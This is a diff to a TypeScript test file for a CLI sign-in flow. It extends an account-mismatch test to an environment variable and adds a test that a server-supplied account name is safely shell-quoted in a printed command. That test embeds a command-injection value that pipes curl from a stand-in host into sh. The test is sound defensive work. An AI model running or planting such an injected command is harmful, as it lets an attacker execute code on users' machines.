@@ -1,5 +1,6 @@
 import assert from 'node:assert/strict';
 import { test } from 'node:test';
+import type { AccountWish } from '../../../src/auth/accounts.ts';
 import { credentialReference } from '../../../src/auth/stored-credential.ts';
 import { signInSteps } from '../../../src/cli/sign-in/keep.ts';
 import type { Credential } from '../../../src/credentials/credential.ts';
@@ -42,8 +43,8 @@ function twoStores() {
   }
   const stores = { keychain: store('keychain'), file: store('file') };
   const context: TestContext = { ...testContext(), storeNamed: (name) => stores[name] };
-  async function keep(credential: Credential, to: StoreName, accountName?: string) {
-    const plan = { store: stores[to], maxWaitMs: 0, accountName };
+  async function keep(credential: Credential, to: StoreName, account?: AccountWish) {
+    const plan = { store: stores[to], maxWaitMs: 0, account };
     await signInSteps(plan, context).keep(credential);
   }
   const known = () => context.currentSettings().hosts[cloudUrl];
@@ -104,13 +105,28 @@ for (const [from, to] of [
   });
 }
 
-test('somebody else than --account asks for is not kept', async () => {
-  const { keep, known, events } = twoStores();
-  await assert.rejects(keep(oauth2Credential, 'keychain', 'ada'), {
-    code: 'sign_in_refused',
-    message: 'maria signed in, and --account asks for ada.',
+for (const rule of ['--account', 'BITBRANCH_ACCOUNT'] as const) {
+  test(`somebody else than ${rule} asks for is not kept`, async () => {
+    const { keep, known, events } = twoStores();
+    await assert.rejects(keep(oauth2Credential, 'keychain', { name: 'ada', rule }), {
+      code: 'sign_in_refused',
+      message: `maria signed in, and ${rule} asks for ada.`,
+    });
+    assert.deepEqual([known(), events], [undefined, []]);
+    await keep(oauth2Credential, 'keychain', { name: 'maria', rule });
+    assert.equal(known()?.lastAccount, 'maria');
   });
-  assert.deepEqual([known(), events], [undefined, []]);
-  await keep(oauth2Credential, 'keychain', 'maria');
-  assert.equal(known()?.lastAccount, 'maria');
+}
+
+test('a command offered for copying quotes what a server called somebody', async () => {
+  const { keep, down, context } = twoStores();
+  const account = { name: "x'; curl evil.example|sh #", displayName: null };
+  const credential = { ...oauth2Credential, account };
+  await keep(credential, 'file');
+  down.add('file');
+  await keep(credential, 'keychain');
+  assert.ok(
+    context.printed.stderr.endsWith(` --account 'x'\\''; curl evil.example|sh #'\n`),
+    context.printed.stderr,
+  );
 });
